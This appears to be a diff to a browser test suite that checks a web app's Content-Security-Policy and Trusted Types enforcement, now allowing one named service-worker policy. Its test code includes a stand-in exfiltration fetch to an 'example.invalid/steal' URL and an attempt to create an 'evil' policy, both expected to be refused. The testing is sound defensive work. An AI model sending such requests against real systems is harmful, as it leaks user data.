@@ -200,12 +200,13 @@ test("the Content-Security-Policy is in the built page and only allows the page'
   const { createHash } = await import("node:crypto");
   const hashes = inline.map((m) => `'sha256-${createHash("sha256").update(m[2]).digest("base64")}'`);
   assert.deepEqual(csp["script-src"], ["'self'", "'wasm-unsafe-eval'", ...hashes]);
-  // Trusted Types: strings never reach an HTML-parsing sink, and no policy may be made.
+  // Trusted Types: strings never reach an HTML-parsing sink; the only policy that may exist is
+  // the service worker's (web/sw-register.js), which vouches for ./sw.js alone.
   assert.deepEqual(csp["require-trusted-types-for"], ["'script'"]);
-  assert.deepEqual(csp["trusted-types"], ["'none'"]);
+  assert.deepEqual(csp["trusted-types"], ["kubeplay-sw"]);
   // No wildcard, no other host or scheme, no eval.
   for (const value of Object.values(csp).flat()) {
-    assert.match(value, /^'(self|none|script|wasm-unsafe-eval|unsafe-inline|sha256-[A-Za-z0-9+/=]+|nonce-[A-Za-z0-9]+)'$|^data:$/, value);
+    assert.match(value, /^'(self|none|script|wasm-unsafe-eval|unsafe-inline|sha256-[A-Za-z0-9+/=]+|nonce-[A-Za-z0-9]+)'$|^data:$|^kubeplay-sw$/, value);
   }
   assert.ok(!csp["script-src"].includes("'unsafe-inline'"));
   assert.doesNotMatch(html, /<[^>]*\son[a-z]+\s*=/i, "no inline event handler in the page");
@@ -234,6 +235,17 @@ test("the policy is enforced: inline script, foreign fetch and foreign images ar
     } catch (e) {
       markup = e.name;
     }
+    // The one allowed policy exists already (the page made it) and cannot be made again, and
+    // no other policy may be made to smuggle a URL or markup through.
+    const policies = [];
+    for (const name of ["kubeplay-sw", "evil"]) {
+      try {
+        trustedTypes.createPolicy(name, { createHTML: (x) => x, createScriptURL: (x) => x });
+        policies.push(`${name}: made`);
+      } catch (e) {
+        policies.push(`${name}: ${e.name}`);
+      }
+    }
     let fetched = "no";
     try {
       await fetch("http://example.invalid/steal?x=1");
@@ -257,11 +269,12 @@ test("the policy is enforced: inline script, foreign fetch and foreign images ar
     img.remove();
     style.remove();
     s.remove();
-    return { ran: window.__inlineRan, fetched, imported, scriptText, markup, imgs: document.querySelectorAll("img[src]").length, v: window.__violations };
+    return { ran: window.__inlineRan, policies, fetched, imported, scriptText, markup, imgs: document.querySelectorAll("img[src]").length, v: window.__violations };
   });
   assert.equal(result.ran, undefined, "an inline script ran");
   assert.equal(result.scriptText, "TypeError");
   assert.equal(result.markup, "TypeError");
+  assert.deepEqual(result.policies, ["kubeplay-sw: TypeError", "evil: TypeError"]);
   assert.equal(result.imgs, 0);
   assert.equal(result.fetched, "refused");
   assert.equal(result.imported, "refused");
